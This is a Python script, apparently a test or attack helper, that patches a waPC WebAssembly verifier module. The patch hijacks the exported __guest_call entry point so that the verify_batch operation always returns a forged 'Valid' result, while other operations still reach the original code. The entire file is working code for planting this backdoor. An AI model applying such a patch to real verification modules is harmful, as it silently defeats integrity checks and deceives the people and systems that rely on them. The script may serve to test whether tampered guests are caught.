"""lie_about_batches.py IN OUT: a waPC module that verifies as the one of IN does, and finds every batch Valid.

Its __guest_call answers an operation of twelve bytes (verify_batch is the only one) itself, and hands all others to IN's.
"""
import sys

VALID = b"\x82\xacpayload_back\xa2Ok\xa6status\xa5Valid"
IMPORTS, FUNCTIONS, EXPORTS, CODE = 2, 3, 7, 10


def number(value):
    out = b""
    while value > 0x7F:
        out, value = out + bytes([value & 0x7F | 0x80]), value >> 7
    return out + bytes([value])


class Reader:
    def __init__(self, data, at=0):
        self.data, self.at = data, at

    def take(self, size):
        self.at += size
        return self.data[self.at - size : self.at]

    def number(self):
        value = shift = 0
        while True:
            byte = self.take(1)[0]
            value, shift = value | (byte & 0x7F) << shift, shift + 7
            if byte < 0x80:
                return value

    def name(self):
        return self.take(self.number())

    def rest(self):
        return self.data[self.at :]


def sections(wasm):
    r = Reader(wasm, 8)
    while r.at < len(wasm):
        kind = r.take(1)[0]
        yield kind, r.take(r.number())


def respond_index(body):
    """The number of __guest_response, and how many functions are imported: the guests import nothing else."""
    r, found = Reader(body), None
    count = r.number()
    for i in range(count):
        r.name()
        if r.name() == b"__guest_response":
            found = i
        assert r.take(1) == b"\0"
        r.number()
    return found, count


def exported(body, to):
    """The exports with __guest_call being function `to`, and which one it was."""
    r = Reader(body)
    count, was, out = r.number(), None, b""
    for _ in range(count):
        name, kind, index = r.name(), r.take(1), r.number()
        if name == b"__guest_call":
            was, index = index, to
        out += number(len(name)) + name + kind + number(index)
    return number(count) + out, was


def appended(body, item):
    r = Reader(body)
    return number(r.number() + 1) + r.rest() + item


def signed(value):
    """LEB128 of a signed 32-bit number."""
    out = b""
    while not -64 <= value < 64:
        out, value = out + bytes([value & 0x7F | 0x80]), value >> 7
    return out + bytes([value & 0x7F])


def store_valid():
    """Writes the answer where the stack's far end is, byte by byte."""
    return b"".join(b"\x41" + signed(i) + b"\x41" + signed(b) + b"\x3a\0\0" for i, b in enumerate(VALID))


def lying(wasm):
    parts = dict(sections(wasm))
    respond, imported = respond_index(parts[IMPORTS])
    functions = Reader(parts[FUNCTIONS])
    kinds = [functions.number() for _ in range(functions.number())]
    parts[EXPORTS], was = exported(parts[EXPORTS], imported + len(kinds))
    parts[FUNCTIONS] = appended(parts[FUNCTIONS], number(kinds[was - imported]))
    code = b"\0\x20\0\x41\x0c\x46\x04\x40" + store_valid()  # if (operation_len == 12)
    code += b"\x41\0\x41" + signed(len(VALID)) + b"\x10" + number(respond) + b"\x41\1\x0f\x0b"  # answer; return 1; end
    code += b"\x20\0\x20\1\x10" + number(was) + b"\x0b"
    parts[CODE] = appended(parts[CODE], number(len(code)) + code)
    return wasm[:8] + b"".join(bytes([kind]) + number(len(body)) + body for kind, body in parts.items())


if __name__ == "__main__":
    with open(sys.argv[1], "rb") as source:
        made = lying(source.read())
    with open(sys.argv[2], "wb") as target:
        target.write(made)
